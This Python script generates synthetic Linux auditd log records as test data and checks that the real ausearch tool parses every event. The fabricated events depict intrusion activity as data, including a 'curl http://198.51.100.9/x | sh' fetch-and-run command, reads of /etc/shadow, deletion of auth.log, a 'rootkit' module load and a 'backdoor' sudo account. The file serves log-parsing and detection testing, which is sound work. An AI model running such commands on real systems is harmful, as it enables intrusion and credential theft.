#!/usr/bin/env python3
"""Makes SYNTHETIC records of the Linux audit subsystem and has the real ausearch read them.

Needs    Debian's apt, root (for chroot), python3.
Installs auditd of Debian 12 into a folder of the cache, for ausearch and aureport.
Writes   schemas/sources/linux.auditd/testdata/synthetic_audit.log      audit.log, raw format
         schemas/sources/linux.auditd/testdata/synthetic_enriched.log   log_format=ENRICHED

Audit records come from the kernel, which needs the privilege to configure it:
nothing is recorded. The lines have the kernel's and PAM's fields in their order.
ausearch, the reader that ships with auditd, must find every event in them and
interpret its fields, else nothing is written.
"""

import re
import subprocess

import common
import debian_root
import synthetic as s

GS = "\x1d"


def hexed(text):
    return text.encode().hex().upper()


class Log:
    def __init__(self):
        self.lines, self.serial = [], 269

    def event(self, i, *records, enriched=None):
        self.serial += 1
        for n, record in enumerate(records):
            kind, _, rest = record.partition(" ")
            line = f"type={kind} msg=audit({s.unix(i):.3f}:{self.serial}): {rest}".rstrip()
            self.lines.append(line + (GS + enriched if enriched and n == 0 else ""))


def syscall(number, exe, comm, success="yes", exit_=0, a0="55d6", pid=2271, ppid=2270, auid=1000, uid=0, euid=None, key="(null)", tty="pts0", ses=3, items=2):
    euid = uid if euid is None else euid
    quoted = f'"{comm}"' if " " not in comm else hexed(comm)
    key = key if key == "(null)" else f'"{key}"'
    return (f"SYSCALL arch=c000003e syscall={number} success={success} exit={exit_} a0={a0} a1=55d7 a2=55d8 a3=0 items={items} ppid={ppid} pid={pid} auid={auid} uid={uid} gid={uid} euid={euid} suid={euid} fsuid={euid} egid={uid} sgid={uid} "
            f"fsgid={uid} tty={tty} ses={ses} comm={quoted} exe=\"{exe}\" subj=unconfined key={key}")


def path(item, name, kind="NORMAL", mode="0100644"):
    name = f'"{name}"' if " " not in name else hexed(name)
    return f"PATH item={item} name={name} inode=12345 dev=08:01 mode={mode} ouid=0 ogid=0 rdev=00:00 nametype={kind} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"


def execve(*argv):
    return f"EXECVE argc={len(argv)} " + " ".join(f'a{n}="{a}"' if not re.search(r'[ "]', a) else f"a{n}={hexed(a)}" for n, a in enumerate(argv))


def title(*argv):
    return "PROCTITLE proctitle=" + "\0".join(argv).encode().hex().upper()


def user(kind, body, pid=811, uid=0, auid=4294967295, ses=4294967295):
    return f"{kind} pid={pid} uid={uid} auid={auid} ses={ses} subj=unconfined msg='{body}'"


def build():
    log = Log()
    log.event(0, "DAEMON_START op=start ver=3.0.9 format=raw kernel=6.1.0-38-amd64 auid=4294967295 pid=610 uid=0 ses=4294967295 subj=unconfined  res=success")
    log.event(1, syscall(59, "/usr/bin/cat", "cat", key="model_weights"), execve("cat", "/models/llama/model.safetensors"), 'CWD cwd="/srv"', path(0, "/usr/bin/cat", mode="0100755"), path(1, "/lib64/ld-linux-x86-64.so.2", mode="0100755"),
              title("cat", "/models/llama/model.safetensors"), "EOE")
    log.event(2, syscall(59, "/usr/bin/bash", "bash", pid=4720, ppid=3596, uid=1000, tty="(none)", key="exec"), execve("bash", "-c", "curl http://198.51.100.9/x | sh"), 'CWD cwd="/srv"', path(0, "/usr/bin/bash", mode="0100755"),
              title("bash", "-c", "curl http://198.51.100.9/x | sh"))
    log.event(3, syscall(257, "/usr/bin/python3.11", "python3", exit_=3, pid=3596, ppid=1, uid=1000, key="model_weights", a0="ffffff9c", items=1), 'CWD cwd="/srv"', path(0, "/models/llama/my model.safetensors"), title("python3", "serve.py"))
    log.event(4, syscall(257, "/usr/bin/cat", "cat", success="no", exit_=-13, uid=1000, key="shadow", a0="ffffff9c", items=1), 'CWD cwd="/srv"', path(0, "/etc/shadow", mode="0100640"), title("cat", "/etc/shadow"))
    log.event(5, syscall(42, "/usr/bin/curl", "curl", pid=4721, ppid=4720, uid=1000, key="net", items=0), "SOCKADDR saddr=02000050C63364090000000000000000", title("curl", "http://198.51.100.9/x"))
    log.event(6, syscall(87, "/usr/bin/rm", "rm", key="delete"), 'CWD cwd="/var/log"', path(0, "/var/log", "PARENT", "040755"), path(1, "auth.log", "DELETE"), title("rm", "auth.log"))
    log.event(7, syscall(90, "/usr/bin/chmod", "chmod", key="perm", items=1), 'CWD cwd="/tmp"', path(0, "/tmp/x"), title("chmod", "+s", "/tmp/x"))
    log.event(8, syscall(105, "/usr/bin/su", "su", uid=1000, euid=0, key="setuid", items=0), title("su", "-"))
    log.event(9, syscall(313, "/usr/bin/kmod", "insmod", key="modules", items=1), 'KERN_MODULE name="rootkit"', title("insmod", "rootkit.ko"))
    log.event(10, user("USER_AUTH", 'op=PAM:authentication grantors=? acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.66 addr=203.0.113.66 terminal=ssh res=failed'))
    log.event(11, user("USER_AUTH", 'op=PAM:authentication grantors=pam_unix acct="mlops" exe="/usr/sbin/sshd" hostname=192.0.2.20 addr=192.0.2.20 terminal=ssh res=success'))
    log.event(12, user("USER_LOGIN", 'op=login id=1000 exe="/usr/sbin/sshd" hostname=192.0.2.20 addr=192.0.2.20 terminal=/dev/pts/0 res=success', auid=1000, ses=3))
    log.event(13, user("USER_CMD", f'cwd="/srv" cmd={hexed("cat /etc/shadow")} exe="/usr/bin/sudo" terminal=pts/0 res=success', uid=1000, auid=1000, ses=3))
    log.event(14, user("ADD_USER", 'op=add-user acct="backdoor" exe="/usr/sbin/useradd" hostname=gpu-node-3 addr=? terminal=pts/0 res=success', auid=1000, ses=3))
    log.event(15, user("ADD_GROUP", 'op=add-user-to-group grp="sudo" acct="backdoor" exe="/usr/sbin/usermod" hostname=gpu-node-3 addr=? terminal=pts/0 res=success', auid=1000, ses=3))
    log.event(16, user("USER_END", 'op=PAM:session_close grantors=pam_unix acct="mlops" exe="/usr/sbin/sshd" hostname=192.0.2.20 addr=192.0.2.20 terminal=ssh res=success', auid=1000, ses=3))
    log.event(17, "CONFIG_CHANGE auid=1000 ses=3 subj=unconfined op=remove_rule key=\"model_weights\" list=4 res=1")
    log.event(18, "ANOM_ABEND auid=1000 uid=1000 gid=1000 ses=3 subj=unconfined pid=4730 comm=\"python3\" exe=\"/usr/bin/python3.11\" sig=11 res=1")
    log.event(19, "AVC apparmor=\"DENIED\" operation=\"open\" profile=\"vllm\" name=\"/etc/shadow\" pid=3596 comm=\"python3\" requested_mask=\"r\" denied_mask=\"r\" fsuid=1000 ouid=0", syscall(257, "/usr/bin/python3.11", "python3", success="no", exit_=-13, pid=3596, uid=1000), title("python3", "serve.py"))
    log.event(20, "SERVICE_START pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=miner comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'")
    return log


def enriched():
    log = Log()
    ids = 'ARCH=x86_64 SYSCALL=execve AUID="mlops" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"'
    log.event(30, syscall(59, "/usr/bin/cat", "cat", key="model_weights"), execve("cat", "/models/llama/model.safetensors"), 'CWD cwd="/srv"', path(0, "/usr/bin/cat", mode="0100755"), title("cat", "/models/llama/model.safetensors"), enriched=ids)
    log.event(31, user("USER_AUTH", 'op=PAM:authentication grantors=? acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.66 addr=203.0.113.66 terminal=ssh res=failed'), enriched='UID="root" AUID="unset"')
    log.event(32, syscall(59, "/usr/bin/id", "id", uid=1000, pid=4722, ppid=3596, key="exec"), execve("id"), 'CWD cwd="/srv"', path(0, "/usr/bin/id", mode="0100755"), title("id"), enriched=ids.replace('UID="root" GID', 'UID="mlops" GID', 1))
    log.event(33, syscall(42, "/usr/bin/curl", "curl", pid=4723, ppid=4722, uid=1000, key="net", items=0), "SOCKADDR saddr=02000050C63364090000000000000000" + GS + "SADDR={ saddr_fam=inet laddr=198.51.100.9 lport=80 }",
              title("curl", "http://198.51.100.9/x"), enriched=ids.replace("execve", "connect"))
    return ["node=gpu-node-3 " + x for x in log.lines]


def check(root, name, lines):
    """The real reader must see every event and lose none."""
    (root / "tmp").mkdir(exist_ok=True)
    (root / "tmp" / name).write_text("\n".join(lines) + "\n")
    run = subprocess.run(["chroot", root, "/usr/sbin/ausearch", "-i", "-if", "/tmp/" + name], capture_output=True, text=True, env={"PATH": "/usr/sbin:/usr/bin", "TZ": "UTC", "LC_ALL": "C"})
    want = {re.search(r"audit\([\d.]+:(\d+)\)", x)[1] for x in lines}
    want -= {re.search(r"audit\([\d.]+:(\d+)\)", x)[1] for x in lines if "apparmor=" in x}  # Debian's ausearch does not know AppArmor's AVC
    got = set(re.findall(r"audit\([^)]*?:(\d+)\)", run.stdout))
    if want - got or "malformed" in run.stderr:
        raise SystemExit(f"ausearch found {len(got)} of {len(want)} events in {name}: {sorted(want - got)} {run.stderr}")
    print(f"ausearch read {len(got)} events of {name}")


def main():
    root = debian_root.root("bookworm", ["auditd"])
    (root / "dev").mkdir(exist_ok=True)
    for name, lines in (("synthetic_audit.log", build().lines), ("synthetic_enriched.log", enriched())):
        check(root, name, lines)
        s.write("linux.auditd", name, lines)


if __name__ == "__main__":
    main()
